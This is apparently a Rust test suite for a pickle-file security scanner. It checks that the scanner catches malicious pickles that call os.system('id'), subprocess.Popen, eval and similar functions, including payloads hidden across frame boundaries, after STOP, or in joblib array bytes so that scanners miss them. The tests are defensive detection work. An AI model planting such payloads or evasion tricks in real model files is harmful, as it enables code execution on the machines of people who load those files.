        let r = run(&P::new().raw(b"\x80\x02").raw(tail));
        assert!(
            r.verdicts
                .iter()
                .any(|v| v.kind == VerdictKind::DangerousReference && v.risk == Risk::High),
            "{tail:?}: {r:#?}"
        );
    }
}

#[test]
fn inst_imports_before_it_looks_for_its_mark() {
    // The pure-Python unpickler calls find_class, then pop_mark (which fails).
    for names in [
        &b"ios\nsystem\n"[..],
        b"isubprocess\nPopen\n",
        b"ibuiltins\neval\n",
    ] {
        let r = run(&P::new().raw(names).stop());
        assert!(
            r.verdicts
                .iter()
                .any(|v| v.kind == VerdictKind::DangerousReference),
            "{names:?}: {r:#?}"
        );
        assert_eq!(r.problem.map(|p| p.kind), Some(ProblemKind::NoMark));
    }
}

#[test]
fn a_module_is_imported_even_when_its_attribute_cannot_exist() {
    // find_class imports the module, then getattr fails: the module's import is reached.
    for tail in [
        &b"cos\nsystem \n"[..],
        b"cos\nsys tem\n",
        b"csubprocess\n.x\n",
        b"\x8c\x02os\x8c\x00\x93",
    ] {
        let r = run(&P::new().raw(tail).stop());
        assert!(
            r.verdicts
                .iter()
                .any(|v| v.kind == VerdictKind::DangerousReference && v.risk == Risk::High),
            "{tail:?}: {r:#?}"
        );
        assert!(matches!(
            r.problem.map(|p| p.kind),
            Some(ProblemKind::BadArgument(_))
        ));
    }
    // Protocol 4 walks a dotted name: the leading attributes that exist are reached.
    for tail in [
        &b"\x80\x04ctorch\nos.system \n"[..],
        b"\x80\x04ctorch\nos.\n",
        b"\x80\x04cbuiltins\neval.\n",
        b"\x80\x04\x8c\x05torch\x8c\x0aos.sys tem\x93",
    ] {
        let r = run(&P::new().raw(tail).stop());
        assert!(
            r.verdicts
                .iter()
                .any(|v| v.kind == VerdictKind::DangerousReference && v.risk == Risk::High),
            "{tail:?}: {r:#?}"
        );
    }
    // A module name nothing can import: the load stops, nothing is reached.
    let r = run(&P::new().raw(b"cos system\nx\n").stop());
    assert!(r.verdicts.is_empty(), "{r:#?}");
    // Identifiers with combining marks are identifiers (`o` + U+0301): an unknown module.
    let r = run(&P::new().raw("co\u{301}s\nsystem\n(S'id'\ntR.".as_bytes()));
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.kind == VerdictKind::UnknownCall && v.risk == Risk::High),
        "{r:#?}"
    );
}

#[test]
fn data_that_cannot_be_a_name_or_callee_stops_the_load_without_a_verdict() {
    // STACK_GLOBAL of ints, calling an int or None: every unpickler raises there.
    for body in [
        &b"K\x01K\x02\x93"[..],
        b"N\x8c\x01x\x93",
        b"K\x05)R",
        b"N)R",
        b"\x8c\x02id)R",
        b"ccollections\nOrderedDict\nN\x81",
    ] {
        let r = run(&P::new().proto(4).raw(body).stop());
        assert!(
            r.verdicts.iter().all(|v| v.risk > Risk::High),
            "{body:?}: {r:#?}"
        );
        assert!(
            matches!(
                r.problem.as_ref().map(|p| &p.kind),
                Some(ProblemKind::BadArgument(_))
            ),
            "{body:?}: {r:?}"
        );
    }
    // A list is an argument list for the pure-Python unpickler's REDUCE (`f(*args)`).
    let r = run(&P::new().raw(b"cos\nsystem\n(S'id'\nlR."));
    assert!(has_critical(&r, "os.system"), "{r:#?}");
}

#[test]
fn subinterpreters_and_logging_handlers_are_dangerous() {
    for (m, n) in [
        ("_interpreters", "run_string"),
        ("_interpreters", "exec"),
        ("_xxsubinterpreters", "run_string"),
        ("concurrent.interpreters", "create"),
        ("logging", "FileHandler"),
        ("logging.handlers", "RotatingFileHandler"),
        ("logging.handlers", "SocketHandler"),
        ("logging.config", "valid_ident"),
    ] {
        let p = P::new()
            .proto(2)
            .global(m, n)
            .ustr("/tmp/x")
            .tuple1()
            .reduce()
            .stop();
        let r = run(&p);
        assert!(has_critical(&r, n), "{m}.{n}: {r:#?}");
    }
}

/// A FRAME whose length ends two bytes into a 4-byte argument (`opener`): the linear readers
/// read the argument across the frame end and see `linear`; a reader holding the frame in a
/// buffer drops those two bytes and reads the argument after the frame, so it sees `buffered`.
fn split_frame(opener: &[u8], arg_len: usize, linear: &P, buffered: &P) -> P {
    let in_frame = P::new().raw(opener).raw(b"aa");
    let rest = vec![b'b'; arg_len - 2];
    let hidden = &buffered.0;
    P::new()
        .proto(4)
        .frame(in_frame.len())
        .raw(&in_frame.0)
        .raw(&rest)
        .raw(&[b'C', hidden.len() as u8])
        .raw(hidden)
        .op(b'0')
        .raw(&linear.0)
}

#[test]
fn an_argument_across_a_frame_end_is_read_both_ways() {
    let tame = P::new().op(b'N').stop();
    let evil = P::new()
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .stop();
    for (opener, len) in [
        (&b"\x8c\x06"[..], 6),
        (b"J", 4),
        (b"G", 8),
        (b"X\x04\x00\x00\x00", 4),
    ] {
        // The payload only the buffered reading (io.BytesIO, torch.load of a zip member) sees.
        let r = run(&split_frame(opener, len, &tame, &evil));
        assert!(has_critical(&r, "os.system('id')"), "{opener:?}: {r:#?}");
        assert!(
            critical(&r)[0].contains("holds the FRAME at byte 2 in a buffer"),
            "{:?}",
            critical(&r)
        );
        assert!(r.problem.is_none(), "{:?}", r.problem);
        // And the payload only the linear reading (pickle.loads, a file read through peek) sees.
        let r = run(&split_frame(opener, len, &evil, &tame));
        assert!(has_critical(&r, "os.system('id')"), "{opener:?}: {r:#?}");
    }
}

#[test]
fn a_text_line_across_a_frame_end_is_read_again_from_the_frame_end() {
    // In the frame: `c` and `xx`; the buffered reader drops `xx` and reads the module line
    // from the frame end: `os`. The linear one reads `xxos`.
    for (head, tail) in [
        (&b"cxx"[..], &b"os\nsystem\n(S'id'\ntR."[..]),
        (b"(S'id'\nizz", b"os\nsystem\n."),
        (b"cpo", b"six\nsystem\n(S'id'\ntR."),
    ] {
        let p = P::new()
            .proto(2)
            .frame(head.len() as u64)
            .raw(head)
            .raw(tail);
        let r = run(&p);
        assert!(has_critical(&r, ".system('id')"), "{head:?}: {r:#?}");
    }
}

#[test]
fn stop_inside_a_frame_continues_at_both_places() {
    // The frame declares the junk after STOP: a reader that holds the frame starts the next
    // pickle at the frame's end, a linear one right after STOP.
    let first = P::new().op(b'N').stop().raw(b"junk");
    let p = P::new()
        .proto(4)
        .frame(first.len())
        .raw(&first.0)
        .raw(&P::payload("id").0);
    let r = run(&p);
    assert!(has_critical(&r, "os.system('id')"), "{r:#?}");
    assert!(r.verdicts.iter().any(|v| v.kind == VerdictKind::Anomaly));
    // And the other way round: the payload hides in the frame's declared tail.
    let tail = P::new()
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .stop();
    let first = P::new().op(b'N').stop().raw(&tail.0);
    let p = P::new()
        .proto(4)
        .frame(first.len())
        .raw(&first.0)
        .raw(&P::new().proto(2).op(b'N').stop().0);
    let r = run(&p);
    assert!(has_critical(&r, "os.system('id')"), "{r:#?}");
}

#[test]
fn a_frame_past_the_outer_frame_is_read_from_its_end_by_a_buffered_reader() {
    // The inner FRAME at the end of the outer frame's bytes: the buffered reader reads the new
    // frame from the outer frame's end, skipping the two bytes `K\x01` the outer one declares.
    let evil = P::new()
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .stop();
    // Linear: SHORT_BINBYTES over the payload, then STOP. Buffered: the payload.
    let skipped = P::new().raw(b"C").op(evil.0.len() as u8);
    let body = P::new().raw(&evil.0).op(b'.');
    let outer_body_len = 9 + skipped.len();
    let p = P::new()
        .proto(4)
        .frame(outer_body_len)
        .frame(body.len())
        .raw(&skipped.0)
        .raw(&body.0);
    let r = run(&p);
    assert!(has_critical(&r, "os.system('id')"), "{r:#?}");
}

#[test]
fn an_oversized_frame_is_refused_by_c_and_read_on_by_pure_python() {
    for declared in [1u64, 100, 1 << 20, 1 << 40] {
        let rest = P::new()
            .global("os", "system")
            .ustr("id")
            .tuple1()
            .reduce()
            .stop();
        let p = P::new().proto(4).frame(rest.len() + declared).raw(&rest.0);
        let r = run(&p);
        // What the pure-Python reading runs is judged; the C unpickler refuses the frame, the
        // pure-Python one completes the stream, and so the stream is not invalid.
        assert!(has_critical(&r, "os.system('id')"), "{declared}");
        assert_eq!(r.problem.map(|p| (p.offset, p.kind)), None, "{declared}");
        assert!(
            r.verdicts
                .iter()
                .any(|v| v.kind == VerdictKind::Anomaly && v.message.contains("only")),
            "{declared}"
        );
    }
    // Too long for the input *and* inside another frame: no reader accepts it.
    let p = P::new()
        .proto(4)
        .frame(12)
        .op(b'N')
        .op(b'0')
        .frame(1 << 30)
        .raw(b"N.");
    assert!(run(&p).problem.is_some());
}

#[test]
fn an_extension_code_below_one_is_refused_as_both_unpicklers_refuse_it() {
    for ext in [
        &b"\x82\x00"[..],
        b"\x83\x00\x00",
        b"\x84\xff\xff\xff\xff",
        b"\x84\x00\x00\x00\x00",
    ] {
        let r = run(&P::new().proto(2).raw(ext).stop());
        assert!(
            matches!(r.problem.map(|p| p.kind), Some(ProblemKind::BadArgument(_))),
            "{ext:02x?}"
        );
    }
    // A positive code is looked up in a registry the loading process may have filled: read on.
    let r = run(&P::new().proto(2).raw(b"\x82\x01").stop());
    assert_eq!(r.problem, None);
}

#[test]
fn later_pickles_are_all_read_and_a_failing_one_is_reported() {
    let first = P::new().proto(2).op(b'}').stop();
    // A later pickle that fails: what it ran is kept, and it is `after_stop`, not the problem.
    for second in [
        &b"cos\nsystem\n(S'id'\ntR"[..],
        b"\x80\x02cos\nsystem\n\x8c\x02id\x85R\xff",
        b"I1_000\n0cos\nsystem\n(S'id'\ntR(",
    ] {
        let r = run(&first.clone().raw(second));
        assert!(has_critical(&r, "os.system('id')"), "{second:?}: {r:#?}");
        assert!(r.problem.is_none());
        assert!(r.after_stop.is_some(), "{second:?}");
        assert_eq!(r.streams.len(), 1);
    }
    // A pickle after a failing one is never read (the loader stopped).
    let r = run(&first.clone().raw(b"\xff").raw(&P::payload("id").0));
    assert!(critical(&r).is_empty());
    assert!(r.after_stop.is_some());
}

#[test]
fn legacy_torch_storage_bytes_after_five_pickles_are_expected() {
    let magic = P::new()
        .proto(2)
        .raw(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19")
        .stop();
    let mut p = magic;
    for _ in 0..4 {
        p = p.proto(2).op(b'}').stop();
    }
    let r = run(&p
        .clone()
        .raw(b"\x10\x00\x00\x00\x00\x00\x00\x00raw storage"));
    assert_eq!(r.streams.len(), 5);
    assert!(r.after_stop.is_none(), "{:?}", r.after_stop);
    // The same bytes after fewer pickles are data after STOP.
    let r = run(&P::new().proto(2).op(b'}').stop().raw(b"\x10\x00raw"));
    assert!(r.after_stop.is_some());
}

#[test]
fn joblib_array_bytes_are_opcodes_for_every_other_loader() {
    // joblib.load skips the array's bytes; pickle.load, torch.load and numpy.load run them.
    let evil = P::new()
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .op(b'0');
    let p = joblib_wrapper(
        P::new().proto(4).op(b'(').op(b']'),
        "u1",
        &[evil.len() as u8],
        false,
    )
    .raw(&evil.0)
    .op(b'a')
    .stop();
    let r = run(&p);
    assert!(r.problem.is_none(), "{:?}", r.problem);
    assert_eq!(r.joblib_arrays, 1);
    let c = critical(&r);
    assert_eq!(c.len(), 1, "{:#?}", r.verdicts);
    assert!(
        c[0].contains("as pickle.load, torch.load and numpy.load read it"),
        "{c:?}"
    );
    // Two arrays, the payload in the second's bytes.
    let p = joblib_wrapper(P::new().proto(4).op(b'(').op(b']'), "f8", &[1], false)
        .raw(&[0u8; 8])
        .op(b'a');
    let p = joblib_wrapper(p, "u1", &[evil.len() as u8], false)
        .raw(&evil.0)
        .op(b'a')
        .stop();
    // (The plain reading stops at the first array's zero bytes: nothing found there.)
    assert!(critical(&run(&p)).is_empty());
}

#[test]
fn joblib_reads_array_bytes_from_the_file_past_the_current_frame() {
    // joblib ends the frame before writing an array; if a frame still has bytes after the
    // wrapper's BUILD, joblib reads the array after the frame and unpickles on in the frame.
    let wrapper = joblib_wrapper(P::new(), "u1", &[4], false);
    let in_frame = P::new()
        .op(b'(')
        .op(b']')
        .raw(&wrapper.0)
        .op(b'a')
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .op(b'a')
        .stop();
    let p = P::new()
        .proto(4)
        .frame(in_frame.len())
        .raw(&in_frame.0)
        .raw(b"\x00\x01\x02\x03");
    let r = run(&p);
    assert!(has_critical(&r, "os.system('id')"), "{r:#?}");
    assert_eq!(r.joblib_arrays, 1);
}

#[test]
fn an_object_arrays_pickle_read_with_the_outer_memo_is_not_high() {
    // joblib writes an object array as a pickle of its own after the wrapper; pickle.load runs
    // it with the outer memo, so its BINGET 0 fetches the outer `'NumpyArrayWrapper'` string and
    // its STACK_GLOBAL names a module that does not exist. Not high; a dangerous name there is.
    let outer = P::new()
        .proto(4)
        .ustr("NumpyArrayWrapper")
        .op(0x94)
        .op(b'0');
    let inner_tame = P::new()
        .proto(2)
        .ustr("numpy")
        .op(0x94)
        .op(b'0')
        .binget(0)
        .ustr("dtype")
        .op(0x93)
        .ustr("O8")
        .tuple1()
        .reduce()
        .stop();
    let p = joblib_wrapper(outer.clone(), "O8", &[1], false)
        .raw(&inner_tame.0)
        .op(b'0')
        .op(b'N')
        .stop();
    let r = run(&p);
    assert!(r.problem.is_none(), "{:?}", r.problem);
    assert!(
        r.verdicts.iter().all(|v| v.risk > Risk::High),
        "{:#?}",
        r.verdicts
    );
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.risk == Risk::Info && v.message.contains("NumpyArrayWrapper.dtype")),
        "{:#?}",
        r.verdicts
    );
    // The outer memo holding `os` and the array's pickle fetching it: critical all the same.
    let outer = P::new().proto(4).ustr("os").op(0x94).op(b'0');
    let inner_evil = P::new()
        .proto(2)
        .binget(0)
        .ustr("system")
        .op(0x93)
        .ustr("id")
        .tuple1()
        .reduce()
        .stop();
    let p = joblib_wrapper(outer, "O8", &[1], false)
        .raw(&inner_evil.0)
        .op(b'0')
        .op(b'N')
        .stop();
    let r = run(&p);
    assert!(has_critical(&r, "os.system('id')"), "{r:#?}");
}

#[test]
fn a_verdict_only_the_linear_reading_reaches_says_so() {
    // The buffered reading completes a harmless pickle; the linear one runs the payload and
    // then breaks: the payload is reported, as what pickle.loads runs.
    let tame = P::new().op(b'N').stop();
    let evil_then_broken = P::new()
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .op(0xff);
    let r = run(&split_frame(b"J", 4, &evil_then_broken, &tame));
    let c = critical(&r);
    assert_eq!(c.len(), 1, "{:#?}", r.verdicts);
    assert!(c[0].starts_with("as pickle.loads reads it"), "{c:?}");
    assert!(r.problem.is_none(), "{:?}", r.problem);
}

// ---- plain data past the detail budget ------------------------------------------------------

fn critical_callees(r: &PickleScan) -> Vec<&str> {
    r.verdicts
        .iter()
        .filter(|v| v.risk == Risk::Critical)
        .filter_map(|v| v.callee.as_deref())
        .collect()
}

/// Limits that keep 1,000 values in detail and hold at most 5,000 values and memo entries.
fn small_arena() -> Limits {
    Limits {
        detail_values: 1_000,
        max_values: 5_000,
        max_memo: 5_000,
        ..Limits::default()
    }
}

/// Opens a protocol 4 pickle of `{'vocab': {word: n, ...}, 'weights': [float, ...]}` as
/// `pickle.dumps` writes it: every string memoized, items in batches of 1,000, the outer dict
/// left open on the stack (its last SETITEMS and the STOP are the caller's).
fn plain_data(words: u32, floats: u32) -> P {
    let mut p = P::new().proto(4).op(b'}').op(0x94).op(b'(');
    p = p.ustr("vocab").op(0x94).op(b'}').op(0x94);
    for batch in (0..words).collect::<Vec<_>>().chunks(1_000) {
        p = p.op(b'(');
        for &i in batch {
            p = p.ustr(&format!("tok{i}")).op(0x94).binint(i as i32);
        }
        p = p.op(b'u');
    }
    p = p.ustr("weights").op(0x94).op(b']').op(0x94);
    for batch in (0..floats).collect::<Vec<_>>().chunks(1_000) {
        p = p.op(b'(');
        for &i in batch {
            p = p.raw(b"G").raw(&(f64::from(i) / 7.0).to_be_bytes());
        }
        p = p.op(b'e');
    }
    p
}

#[test]
fn plain_data_of_any_size_is_read_to_the_end() {
    // 200,000 memoized strings and 500,000 values in an arena of 5,000 values and a memo of
    // 5,000 entries: the constants go in and out, the containers stay.
    let p = plain_data(200_000, 300_000).op(b'u').stop();
    let r = run_with(&p, small_arena());
    assert_clean(&r);
    // The same file with the detail budget as large as the arena: the memo limit is hit.
    let detailed = run_with(
        &p,
        Limits {
            detail_values: usize::MAX,
            ..small_arena()
        },
    );
    assert!(
        matches!(
            detailed.problem.map(|p| p.kind),
            Some(ProblemKind::LimitExceeded { .. })
        ),
        "the test must exercise the limits"
    );
}

#[test]
fn what_follows_plain_data_is_still_judged() {
    // A call stored beside the data, and an import that is only referenced.
    let p = plain_data(20_000, 20_000)
        .ustr("hook")
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .ustr("ref")
        .global("subprocess", "Popen")
        .op(b'u')
        .stop();
    let r = run_with(&p, small_arena());
    assert!(r.problem.is_none(), "{:?}", r.problem);
    assert_eq!(critical_callees(&r), vec!["os.system"]);
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.kind == VerdictKind::DangerousReference
                && v.callee.as_deref() == Some("subprocess.Popen")),
        "{:#?}",
        r.verdicts
    );
}

#[test]
fn an_elided_name_is_read_again_in_detail() {
    // "os" and "system" are memoized as list items past the budget, then named again from the
    // memo by STACK_GLOBAL: the machine reads the stream again keeping every value.
    let mut p = P::new().proto(4).op(b']').op(0x94).op(b'(');
    for i in 0..3_000 {
        p = p.ustr(&format!("w{i}")).op(0x94);
    }
    p = p.ustr("os").op(0x94).ustr("system").op(0x94).op(b'e');
    let (os, system) = (3_001u32, 3_002u32);
    let p = p
        .raw(b"j")
        .raw(&os.to_le_bytes())
        .raw(b"j")
        .raw(&system.to_le_bytes())
        .op(0x93)
        .ustr("id")
        .tuple1()
        .reduce()
        .op(b'a')
        .stop();
    let limits = Limits {
        detail_values: 1_000,
        ..Limits::default()
    };
    let r = run_with(&p, limits);
    assert!(r.problem.is_none(), "{:?}", r.problem);
    assert_eq!(critical_callees(&r), vec!["os.system"]);
}

#[test]
fn elided_bytes_handed_to_a_loader_fail_closed() {
    // A nested pickle memoized among plain bytes past the budget, then handed to an allowed
    // loader from the memo: the machine no longer holds it, so it cannot clear it.
    let nested = P::payload("id");
    let mut p = P::new().proto(4).op(b']').op(0x94).op(b'(');
    for i in 0..3_000u32 {
        p = p.bytes(&i.to_le_bytes()).op(0x94);
    }
    p = p.bytes(&nested.0).op(0x94).op(b'e');
    let idx = 3_001u32;
    let p = p
        .global("torch.storage", "_load_from_bytes")
        .raw(b"j")
        .raw(&idx.to_le_bytes())
        .tuple1()
        .reduce()
        .op(b'a')
        .stop();
    let full = run(&p);
    assert_eq!(critical_callees(&full), vec!["os.system"]);
    assert!(
        full.verdicts.iter().all(|v| v.risk != Risk::High),
        "{:#?}",
        full.verdicts
    );
    let r = run_with(
        &p,
        Limits {
            detail_values: 1_000,
            ..Limits::default()
        },
    );
    assert!(
        r.verdicts.iter().any(|v| v.risk == Risk::High
            && v.callee.as_deref() == Some("torch.storage._load_from_bytes")),
        "{:#?}",
        r.verdicts
    );
}

#[test]
fn a_module_name_fetched_again_from_the_memo_stays_exact() {
    // Protocol 4 writes a module's name once and fetches it from the memo for the module's next
    // class: past the budget that name is kept, so the file is read once, in the small arena.
    let words = 20_000u32;
    let collections = words + 5;
    let p = plain_data(words, 1_000)
        .ustr("od")
        .ustr("collections")
        .op(0x94)
        .ustr("OrderedDict")
        .op(0x94)
        .op(0x93)
        .op(0x94)
        .op(b')')
        .reduce()
        .ustr("counter")
        .raw(b"j")
        .raw(&collections.to_le_bytes())
        .ustr("Counter")
        .op(0x94)
        .op(0x93)
        .op(b')')
        .reduce()
        .op(b'u')
        .stop();
    let r = run_with(&p, small_arena());
    assert_clean(&r);
    assert!(
        r.bytes_consumed <= p.len(),
        "read again: {}",
        r.bytes_consumed
    );
}

/// NEWOBJ_EX whose keyword arguments are an object, not a dict: the pure-Python unpickler
/// evaluates `cls.__new__(cls, *args, **kwargs)` and calls `kwargs.keys()` before anything
/// checks `cls` (found by the 1M-stream campaign, seed 7, stream 505748: the class was an empty
/// tuple, so the C unpickler refuses and aigis called the stream malformed only).
#[test]
fn newobj_ex_keyword_object_has_its_keys_called() {
    let stream = b"\x80\x03()\x8e\x03\x00\x00\x00\x00\x00\x00\x00abc\x97\x980ctorch.nn.modules.linear\nLinear\n\x92Vx\ntRl.";
    let r = run(&P::new().raw(stream));
    assert!(
        r.verdicts
            .iter()
            .any(|v| matches!(v.risk, Risk::High | Risk::Critical) && v.message.contains("keys")),
        "{:#?}",
        r.verdicts
    );
    // A dict of keyword arguments is plain data: nothing is called on it.
    let benign = P::new()
        .proto(4)
        .global("collections", "OrderedDict")
        .op(b')')
        .op(b'}')
        .op(0x92)
        .op(b'.');
    let r = run(&benign);
    assert!(
        !r.verdicts.iter().any(|v| v.message.contains("keys")),
        "{:#?}",
        r.verdicts
    );
}

/// Opcodes that call a method on the object below them, or hash or view it, on a builtin value
/// that fails there: both CPython unpicklers raise, so the stream ends, and what follows (an
/// `os.system` call here) is never loaded. Each stream was run through `pickle.loads` and
/// `pickle._loads` (CPython 3.11), with the error quoted.
#[test]
fn builtin_values_fail_where_the_unpicklers_fail() {
    let payload = b"cos\nsystem\n(S'id'\ntR.";
    for (stream, cpython) in [
        (&b")\x88a"[..], "'tuple' object has no attribute 'append'"),
        (b"N(K\x01e", "'NoneType' object has no attribute 'append'"),
        (b"}K\x01a", "'dict' object has no attribute 'append'"),
        (
            b")K\x01K\x02s",
            "'tuple' object does not support item assignment",
        ),
        (
            b"\x8f(K\x01K\x02u",
            "'set' object does not support item assignment",
        ),
        (b"](K\x01\x90", "'list' object has no attribute 'add'"),
        (
            b"(K\x01\x91(K\x02\x90",
            "'frozenset' object has no attribute 'add'",
        ),
        (
            b"N\x98",
            "memoryview: a bytes-like object is required, not 'NoneType'",
        ),
        (b"(]K\x01d", "unhashable type: 'list'"),
        (b"}(]\x85K\x01u", "unhashable type: 'list'"),
        (b"(}\x91", "unhashable type: 'dict'"),
    ] {
        let mut bytes = b"\x80\x05".to_vec();
        bytes.extend_from_slice(stream);
        bytes.extend_from_slice(payload);
        let r = scan(&bytes[..], 0, &Options::default());
        match r.problem.as_ref().map(|p| &p.kind) {
            Some(ProblemKind::BadArgument(why)) => assert_eq!(why, cpython, "{stream:?}"),
            other => panic!("{stream:?}: {other:?}"),
        }
        assert!(critical(&r).is_empty(), "{stream:?}: {:?}", critical(&r));
    }
    // What the unpicklers accept stays a pickle that reaches the payload: no items (the C
    // unpickler does nothing), a bytearray's append, a list's item assignment, a set's add,
    // a bytes view, a tuple key.
    for stream in [
        &b")(e"[..],
        b")(u",
        b")(\x90",
        b"\x96\x00\x00\x00\x00\x00\x00\x00\x00K\x01a",
        b"]K\x01aK\x00K\x02s",
        b"\x8f(K\x01\x90",
        b"C\x01x\x98",
        b"}(K\x01\x85K\x01u",
    ] {
        let mut bytes = b"\x80\x05".to_vec();
        bytes.extend_from_slice(stream);
        bytes.extend_from_slice(payload);
        let r = scan(&bytes[..], 0, &Options::default());
        assert_eq!(r.problem, None, "{stream:?}");
        assert!(!critical(&r).is_empty(), "{stream:?}");
    }
}

/// An extension code registered to a name no module can have fails in `find_class`, as a
/// GLOBAL of that name does.
#[test]
fn extension_registered_to_an_impossible_module_name_fails_there() {
    let r = run(&registered_extension_call("o?s", "system"));
    assert!(
        matches!(r.problem.map(|p| p.kind), Some(ProblemKind::BadArgument(ref why)) if why.contains("o?s")),
    );
}

/// A GLOBAL whose name line is empty: the C unpickler refuses the line before it imports
/// anything ("pickle data was truncated"), the pure-Python one imports the module and then fails
/// on the attribute `''`. Here the line is read from the end of a 3-byte FRAME (the C unpickler
/// on a buffered frame), where the pure-Python unpickler fails first: no loader imports `os`.
#[test]
fn an_empty_global_line_is_refused_by_the_c_unpickler_before_any_import() {
    let crossing = b"\x80\x02\x95\x03\x00\x00\x00\x00\x00\x00\x00cxxos\n\nVimport os\n\x85R.";
    let r = scan(&crossing[..], 0, &Options::default());
    assert!(
        r.globals.iter().all(|g| g.module != "os"),
        "{:?}",
        r.globals
    );
    // Outside a frame the pure-Python unpickler reaches the module.
    let plain = b"cos\n\n)R.";
    let r = scan(&plain[..], 0, &Options::default());
    assert!(
        r.globals.iter().any(|g| g.module == "os"),
        "{:?}",
        r.globals
    );
}

/// Under protocol < 3 `find_class` rewrites a Python-2 module name before it imports, also when
/// the attribute then cannot exist: `UserDict` + `x y` imports `collections`, and the listed
/// import says so. Under protocol 3 the spelled module is imported.
#[test]
fn a_partial_import_under_protocol_2_lists_the_module_fix_imports_imports() {
    let r = scan(&b"\x80\x02cUserDict\nx y\n."[..], 0, &Options::default());
    let modules: Vec<&str> = r.globals.iter().map(|g| g.module.as_str()).collect();
    assert_eq!(modules, ["collections"], "{:?}", r.globals);
    let r = scan(&b"\x80\x03cUserDict\nx y\n."[..], 0, &Options::default());
    let modules: Vec<&str> = r.globals.iter().map(|g| g.module.as_str()).collect();
    assert_eq!(modules, ["UserDict"], "{:?}", r.globals);
}

/// A trusted-namespace function held as data (never called in the file) is judged by its
/// generated effects, as a dangerous name held as data is: whatever receives it can call it.
/// Code, processes and unpickling are high; a forwarder alone is not (its argument decides);
/// the user's allow-list of the name wins.
#[test]
fn a_held_function_is_judged_by_its_effects_not_its_namespace() {
    let held = |module: &str, name: &str| {
        P::new()
            .proto(2)
            .op(b']')
            .global(module, name)
            .op(b'a')
            .stop()
    };
    for (module, name) in [
        ("torch.jit.annotations", "parse_type_line"), // exec
        ("statsmodels.tsa.x13", "run_spec"),          // spawn
        ("torch.distributed.distributed_c10d", "_tensor_to_object"), // loads
    ] {
        let r = run(&held(module, name));
        assert!(
            r.verdicts.iter().any(|v| v.risk >= Risk::High
                && v.kind == VerdictKind::DangerousReference
                && v.message.contains(name)),
            "{module}.{name}: {:#?}",
            r.verdicts
        );
    }
    // A forwarder held is no threat by itself.
    let r = run(&held("numpy.random._pickle", "__randomstate_ctor"));
    assert!(
        r.verdicts.iter().all(|v| v.risk < Risk::High),
        "{:#?}",
        r.verdicts
    );
    // The user allowed it.
    let opts = Options {
        extra_allowed: vec!["torch.jit.annotations.*".into()],
        ..Options::default()
    };
    let r = scan(
        &held("torch.jit.annotations", "parse_type_line").0[..],
        0,
        &opts,
    );
    assert!(
        r.verdicts.iter().all(|v| v.risk < Risk::High),
        "{:#?}",
        r.verdicts
    );
}

/// A class of the user's own code rebuilt from constants (an enum member, a config class) is
/// medium, as the issue of noise on real files asks; the standard library, the packages whose
/// classes act on the host when constructed, and a callable among the arguments stay high.
#[test]
fn a_users_class_built_from_constants_is_medium_and_nothing_else_is() {
    let built = |module: &str, name: &str, arg: &str| {
        P::new()
            .proto(2)
            .global(module, name)
            .int(1)
            .ustr(arg)
            .tuple2()
            .reduce()
            .stop()
    };
    let worst = |r: &PickleScan| r.verdicts.iter().map(|v| v.risk).max();
    for (module, name) in [("__main__", "Net"), ("myproject.models", "Config")] {
        let r = run(&built(module, name, "a"));
        assert_eq!(
            worst(&r),
            Some(Risk::Medium),
            "{module}.{name}: {:#?}",
            r.verdicts
        );
    }
    for (module, name) in [
        ("sched", "Scheduler"),
        ("pexpect.popen_spawn", "PopenSpawn"),
        ("psutil", "Popen"),
    ] {
        let r = run(&built(module, name, "id"));
        assert!(
            worst(&r) >= Some(Risk::High),
            "{module}.{name}: {:#?}",
            r.verdicts
        );
    }
    let handed_a_function = P::new()
        .proto(2)
        .global("__main__", "Net")
        .global("mypkg", "fn")
        .tuple1()
        .reduce()
        .stop();
    let r = run(&handed_a_function);
    assert!(worst(&r) >= Some(Risk::High), "{:#?}", r.verdicts);
}
